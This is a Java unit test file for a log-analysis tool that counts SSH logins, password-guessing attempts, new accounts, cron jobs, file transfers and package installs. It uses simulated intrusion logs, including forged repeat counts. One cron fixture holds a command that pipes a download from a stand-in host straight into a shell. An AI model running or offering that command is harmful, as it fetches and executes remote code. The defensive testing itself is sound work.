package davy.core.log;

import static org.assertj.core.api.Assertions.assertThat;

import davy.core.compression.ByteReader;
import davy.core.log.LogEvent.AccountChange.Change;
import davy.core.log.LogEvent.PackageChange.Action;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;

/// What several logs come to together; expected values are counted by hand.
final class LogTallyTest {
    private static final Instant MODIFIED = Instant.parse("2026-01-15T12:00:00Z");

    private final LogTally tally = new LogTally();
    private ZoneId zone = ZoneOffset.UTC;

    private boolean read(String path, byte[] bytes, boolean given) {
        var pass = new LogPass(tally, zone, "web.example", Map.of(1000L, "ann"));
        return pass.read(
                new LogPass.Input(
                        path, ByteReader.of(bytes), null, bytes.length, MODIFIED, null, given));
    }

    private void read(String path, String text) {
        assertThat(read(path, text.getBytes(StandardCharsets.UTF_8), false)).isTrue();
    }

    private static byte[] gzip(String text) throws Exception {
        var out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    @Test
    void tellsEachLoginOnce() throws Exception {
        read(
                "/var/log/auth.log",
                """
                2026-01-14T08:10:00+00:00 web sshd[1]: Accepted password for ann from 192.0.2.8 port 9 ssh2
                2026-01-14T08:20:00+00:00 web sshd[1]: Accepted publickey for ann from 192.0.2.8 port 10 ssh2: ED25519 SHA256:abc
                """);
        // The audit log tells of the first again, and of one that the text has no more.
        read(
                "/var/log/audit/audit.log",
                """
                type=USER_LOGIN msg=audit(1768378201.000:77): pid=1 uid=0 auid=1000 ses=2 msg='op=login acct="ann" exe="/usr/sbin/sshd" hostname=192.0.2.8 addr=192.0.2.8 terminal=/dev/pts/0 res=success'
                type=USER_LOGIN msg=audit(1768388201.000:78): pid=1 uid=0 auid=1000 ses=2 msg='op=login acct="bob" exe="/usr/sbin/sshd" hostname=192.0.2.9 addr=192.0.2.9 terminal=/dev/pts/0 res=success'
                """);
        var logins = tally.summary().logins();
        assertThat(logins).hasSize(3);
        assertThat(logins.getFirst().method()).isEqualTo("password");
        assertThat(logins.getFirst().places())
                .containsExactly("/var/log/auth.log:1", "/var/log/audit/audit.log:1");
        assertThat(logins.get(1).fingerprint()).isEqualTo("SHA256:abc");
        assertThat(logins.getLast().user()).isEqualTo("bob");
        assertThat(logins.getLast().service()).isEqualTo("audit");
    }

    @Test
    void countsFailuresBeforeALogin() throws Exception {
        assertThat(
                        read(
                                "/var/log/auth.log.2.gz",
                                gzip(
                                        """
                                        2026-01-10T08:00:00+00:00 web sshd[1]: Failed password for root from 192.0.2.8 port 9 ssh2
                                        2026-01-10T08:00:10+00:00 web sshd[1]: Failed password for invalid user x from 192.0.2.8 port 9 ssh2
                                        """),
                                false))
                .isTrue();
        read(
                "/var/log/auth.log",
                """
                2026-01-14T08:00:00+00:00 web sshd[1]: Failed password for root from 192.0.2.8 port 9 ssh2
                2026-01-14T08:00:05+00:00 web sshd[1]: message repeated 5 times: [ Failed password for root from 192.0.2.8 port 9 ssh2]
                2026-01-14T08:10:00+00:00 web sshd[1]: Accepted password for root from 192.0.2.8 port 9 ssh2
                2026-01-14T08:10:30+00:00 web sshd[1]: Failed password for root from 192.0.2.8 port 9 ssh2
                2026-01-14T08:10:30+00:00 web sshd[1]: Failed publickey for root from 192.0.2.8 port 9 ssh2
                """);
        var guesses = tally.summary().guesses("192.0.2.8");
        assertThat(guesses).isNotNull();
        assertThat(guesses.count()).isEqualTo(9);
        assertThat(guesses.accounts()).isEqualTo(Map.of("root", 8L, "x", 1L));
        assertThat(guesses.place()).isEqualTo("/var/log/auth.log.2.gz:1");
        var login = Instant.parse("2026-01-14T08:10:00Z");
        assertThat(guesses.times().before(login, Duration.ofDays(1))).isEqualTo(6);
        assertThat(guesses.times().before(login, Duration.ofDays(30))).isEqualTo(8);
        assertThat(guesses.times().firstBefore(login, Duration.ofDays(1)))
                .isEqualTo(Instant.parse("2026-01-14T08:00:00Z"));
        assertThat(guesses.times().lastBefore(login))
                .isEqualTo(Instant.parse("2026-01-14T08:00:05Z"));
    }

    @Test
    void keepsWithinBounds() {
        var text = new StringBuilder();
        for (int i = 0; i < 45_000; i++) {
            text.append("2026-01-14T08:00:00+00:00 web sshd[1]: Failed password for u")
                    .append(i)
                    .append(" from 10.")
                    .append(i >> 16)
                    .append('.')
                    .append(i >> 8 & 255)
                    .append('.')
                    .append(i & 255)
                    .append(" port 9 ssh2\n");
            if (i % 100 == 0) {
                text.append("2026-01-14T08:00:00+00:00 web sshd[1]: Failed password for root")
                        .append(" from 192.0.2.66 port 9 ssh2\n")
                        .append("2026-01-14T09:00:00+00:00 web sshd[1]: Accepted password for ann")
                        .append(" from 192.0.2.8 port ")
                        .append(i % 60_000)
                        .append(" ssh2\n");
            }
        }
        read("/var/log/secure", text.toString());
        var summary = tally.summary();
        assertThat(summary.guesses()).hasSizeBetween(10_000, 20_000);
        assertThat(summary.guesses().getFirst().address()).isEqualTo("192.0.2.66");
        assertThat(summary.guesses().getFirst().count()).isEqualTo(450);
        assertThat(summary.logins()).hasSize(40);
        assertThat(summary.leftOut()).containsEntry(LogSummary.ALIKE, 410L);
        assertThat(summary.leftOut().get("addresses") + summary.guesses().size()).isEqualTo(45_001);
    }

    /// Lines that logger(1) can write: they neither turn the count over nor hide the true ones.
    @Test
    void countsOnWhereCountsAreForged() {
        var text = new StringBuilder();
        text.append("2026-01-14T08:00:00+00:00 web sshd[1]: Failed password for root from")
                .append(" 192.0.2.8 port 9 ssh2\n");
        for (int i = 0; i < 10; i++) {
            text.append("2026-01-14T08:00:05+00:00 web sshd[1]: message repeated ")
                    .append("999999999999999999 times: [ Failed password for root from 192.0.2.8")
                    .append(" port 9 ssh2]\n");
        }
        read("/var/log/auth.log", text.toString());
        var guesses = tally.summary().guesses("192.0.2.8");
        assertThat(guesses).isNotNull();
        assertThat(guesses.count()).isEqualTo(100_001);
        assertThat(guesses.tries("root")).isEqualTo(100_001);
        var after = Instant.parse("2026-01-14T09:00:00Z");
        assertThat(guesses.times().before(after, Duration.ofDays(1))).isEqualTo(100_001);
    }

    @Test
    void sumsStayWithinALong() {
        var attempts = new Attempts();
        for (int i = 0; i < 3; i++) {
            attempts.add(1_768_000_000L + i * 7200L, Long.MAX_VALUE, "root", "a:1");
        }
        assertThat(attempts.count()).isEqualTo(Long.MAX_VALUE);
        assertThat(attempts.accounts()).isEqualTo(Map.of("root", Long.MAX_VALUE));
        var after = Instant.ofEpochSecond(1_768_100_000L);
        assertThat(attempts.before(after, Duration.ofDays(9))).isEqualTo(Long.MAX_VALUE);
    }

    /// What a line says is kept short, whichever line it is: any user can log lines of 8 KiB.
    @Test
    void keepsShortTexts() {
        String much = "x".repeat(7900);
        read(
                "/var/log/syslog",
                """
                2026-01-14T08:00:00+00:00 web sshd[1]: Accepted password for ~ from 192.0.2.8 port 9 ssh2: ~ ~
                2026-01-14T08:00:00+00:00 web sshd[1]: Accepted ~ for ann from ~ port 9 ssh2
                2026-01-14T08:00:00+00:00 web kernel: ~ IN= OUT=~ SRC=~ DST=~ PROTO=~ SPT=1 DPT=2
                2026-01-14T08:00:00+00:00 web CRON[5]: (~) CMD (~)
                2026-01-14T08:00:00+00:00 ~ useradd[5]: add '~' to group '~'
                2026-01-14T08:00:00+00:00 ~ rz[6]: [root] ~/ZMODEM: 20 Bytes, 2 BPS
                """
                        .replace("~", much));
        read(
                "/var/log/apt/history.log",
                "Start-Date: 2026-01-10  15:25:50\nCommandline: ~\n".replace("~", much));
        read(
                "/var/log/nginx/access.log",
                "~ - - [14/Jan/2026:08:00:00 +0000] \"POST /a.php HTTP/1.1\" 200 1 \"-\" \"~\"\n"
                        .replace("~", much));
        var summary = tally.summary();
        assertThat(summary.logins()).hasSize(2).allSatisfy(l -> assertShort(l.toString()));
        assertThat(summary.flows()).hasSize(1).allSatisfy(f -> assertShort(f.toString()));
        assertThat(summary.cronCommands()).hasSize(1).allSatisfy(c -> assertShort(c.toString()));
        assertThat(summary.accountChanges()).hasSize(1).allSatisfy(c -> assertShort(c.toString()));
        assertThat(summary.transfers()).hasSize(1).allSatisfy(t -> assertShort(t.toString()));
        assertThat(summary.packages()).hasSize(1).allSatisfy(p -> assertShort(p.toString()));
        assertThat(summary.posts()).hasSize(1).allSatisfy(p -> assertShort(p.toString()));
        assertThat(summary.cronCommands().getFirst().command()).startsWith("xxx").endsWith("…");
    }

    /// Room for a text of 1,000 characters, some of 256, and the names of fields.
    private static void assertShort(String kept) {
        assertThat(kept).hasSizeLessThan(2800);
    }

    /// Half a character is no text: where it was cut, it could not be written.
    @Test
    void cutsNoCharacterInTwo() {
        for (int before = 0; before < 2; before++) {
            String text = "x".repeat(before) + "\ud83d\ude00".repeat(4000);
            read(
                    "/var/log/cron",
                    "2026-01-14T08:00:00+00:00 web CRON[5]: (root) CMD (" + text + ")\n");
        }
        assertThat(tally.summary().cronCommands())
                .hasSize(2)
                .allSatisfy(run -> assertThat(run.command()).doesNotMatch("(?s).*[\\ud83d]….*"));
    }

    /// Of many kinds fewer of each are kept, but always the first and the last.
    @Test
    void keepsFewLoginsInAll() {
        var text = new StringBuilder();
        for (int second = 0; second < 40; second++) {
            for (int user = 0; user < 3000; user++) {
                text.append("2026-01-14T08:00:%02d+00:00 web sshd[1]: ".formatted(second))
                        .append("Accepted password for u")
                        .append(user)
                        .append(" from 192.0.2.8 port 9 ssh2\n");
            }
        }
        read("/var/log/secure", text.toString());
        var logins = tally.summary().logins();
        assertThat(logins).hasSizeLessThanOrEqualTo(60_000);
        assertThat(logins.stream().filter(l -> l.user().equals("u2999")))
                .extracting(l -> l.time().at())
                .contains(
                        Instant.parse("2026-01-14T08:00:00Z"),
                        Instant.parse("2026-01-14T08:00:39Z"));
        assertThat(tally.summary().leftOut())
                .isEqualTo(Map.of(LogSummary.ALIKE, 120_000L - logins.size()));
    }

    /// A run that is not kept is told, and one of a file that was made is kept.
    @Test
    void tellsOfRunsThatItLeavesOut() {
        var text = new StringBuilder();
        audit(text, "4294967295", "/tmp/made", true);
        for (int i = 0; i < 5003; i++) {
            audit(text, "1000", "/tmp/f" + i, false);
        }
        audit(text, "1000", "/tmp/made", false);
        read("/var/log/audit/audit.log", text.toString());
        var summary = tally.summary();
        assertThat(summary.leftOut()).isEqualTo(Map.of("files", 3L));
        assertThat(summary.dropped()).extracting(DroppedFile::run).doesNotContainNull().hasSize(1);
    }

    /// The paths and commands of all files that were made and run take so much and no more.
    @Test
    void keepsFewPathsOfTheAuditLog() {
        var text = new StringBuilder();
        for (int i = 0; i < 3000; i++) {
            audit(text, "4294967295", "/tmp/" + "d/".repeat(1900) + i, true);
        }
        read("/var/log/audit/audit.log", text.toString());
        var summary = tally.summary();
        long kept = summary.dropped().stream().mapToLong(f -> f.path().length()).sum();
        assertThat(kept).isPositive().isLessThan((8 << 20) + 4096);
        assertThat(summary.dropped().size() + summary.leftOut().getOrDefault("files", 0L))
                .isEqualTo(3000);
    }

    private static void audit(StringBuilder text, String login, String path, boolean made) {
        String head = " msg=audit(1768378201.000:" + (text.length() + 1) + "): ";
        text.append("type=SYSCALL").append(head);
        text.append("success=yes pid=2 auid=").append(login).append(" uid=33 comm=\"c\"\n");
        text.append("type=CWD").append(head).append("cwd=\"/\"\n");
        if (!made) {
            text.append("type=EXECVE").append(head).append("argc=1 a0=\"x\"\n");
        }
        text.append("type=PATH").append(head).append("item=0 name=\"").append(path);
        text.append("\" mode=0100755 nametype=").append(made ? "CREATE" : "NORMAL").append('\n');
        text.append("type=EOE").append(head).append('\n');
    }

    @Test
    void readsPackagesOfAllManagers() {
        read(
                "/var/log/dpkg.log",
                """
                2026-01-10 15:25:53 startup archives install
                2026-01-10 15:25:53 install lrzsz:amd64 <none> 0.12.21-11
                2026-01-10 15:25:54 status installed lrzsz:amd64 0.12.21-11
                2026-01-11 15:25:53 remove lrzsz:amd64 0.12.21-11 <none>
                """);
        read(
                "/var/log/apt/history.log",
                """

                Start-Date: 2026-01-10  15:25:50
                Commandline: apt-get install lrzsz
                Install: lrzsz:amd64 (0.12.21-11)
                End-Date: 2026-01-10  15:25:55
                """);
        read("/var/log/yum.log", "Jan 09 10:01:02 Installed: gcc-4.8.5-44.el7.x86_64\n");
        read(
                "/var/log/dnf.rpm.log",
                "2026-01-12T01:02:03+0800 SUBDEBUG Installed: gcc-11.4.1-3.x86_64\n");
        assertThat(tally.summary().packages())
                .extracting(
                        s -> s.event().action(),
                        s -> s.event().name(),
                        s -> s.event().time().at().toString())
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                Action.INSTALLED,
                                "gcc-4.8.5-44.el7.x86_64",
                                "2026-01-09T10:01:02Z"),
                        org.assertj.core.groups.Tuple.tuple(
                                Action.COMMAND, "apt-get install lrzsz", "2026-01-10T15:25:50Z"),
                        org.assertj.core.groups.Tuple.tuple(
                                Action.INSTALLED, "lrzsz:amd64", "2026-01-10T15:25:53Z"),
                        org.assertj.core.groups.Tuple.tuple(
                                Action.REMOVED, "lrzsz:amd64", "2026-01-11T15:25:53Z"),
                        org.assertj.core.groups.Tuple.tuple(
                                Action.INSTALLED, "gcc-11.4.1-3.x86_64", "2026-01-11T17:02:03Z"));
    }

    @Test
    void takesOfGivenLogsWhatIsOfThisHost() {
        String lines =
                """
                Jan 14 08:10:00 web sshd[1]: Accepted password for ann from 192.0.2.8 port 9 ssh2
                Jan 14 08:11:00 db sshd[1]: Accepted password for bob from 192.0.2.9 port 9 ssh2
                """;
        assertThat(read("/given/all.txt", lines.getBytes(StandardCharsets.UTF_8), true)).isTrue();
        assertThat(tally.summary().logins()).extracting(Login::user).containsExactly("ann");
        assertThat(read("/given/x.bin", new byte[100], true)).isFalse();
    }

    @Test
    void tellsChangesOfAccountsOnce() {
        read(
                "/var/log/auth.log",
                """
                2026-01-14T08:11:00+00:00 web useradd[31]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash
                """);
        read(
                "/var/log/audit/audit.log",
                """
                type=ADD_USER msg=audit(1768378260.500:7): pid=2 uid=0 auid=0 ses=6 msg='op=add-user acct="eve" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success'
                type=ADD_USER msg=audit(1768378290.500:8): pid=2 uid=0 auid=0 ses=6 msg='op=add-user acct="tom" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success'
                """);
        assertThat(tally.summary().accountChanges())
                .extracting(s -> s.event().name(), s -> s.event().change())
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("eve", Change.USER_ADDED),
                        org.assertj.core.groups.Tuple.tuple("tom", Change.USER_ADDED));
    }

    @Test
    void addsUpCronAndTransfers() {
        read(
                "/var/log/syslog",
                """
                2026-01-14T08:10:01+00:00 web CRON[5]: (root) CMD (curl -fsSL http://x.example/a | sh)
                2026-01-14T08:20:01+00:00 web CRON[6]: (root) CMD (curl -fsSL http://x.example/a | sh)
                2026-01-14T08:21:00+00:00 web rz[6]: [root] k.tgz/ZMODEM: 20 Bytes, 2 BPS
                """);
        var summary = tally.summary();
        assertThat(summary.cronCommands())
                .containsExactly(
                        new CronRun(
                                "root",
                                "curl -fsSL http://x.example/a | sh",
                                2,
                                Instant.parse("2026-01-14T08:10:01Z"),
                                Instant.parse("2026-01-14T08:20:01Z"),
                                "/var/log/syslog:1"));
        assertThat(summary.transfers())
                .extracting(Seen::place)
                .containsExactly("/var/log/syslog:3");
        assertThat(summary.logs()).extracting(LogSpan::kind).containsExactly(LogKind.SYSLOG);
    }
}
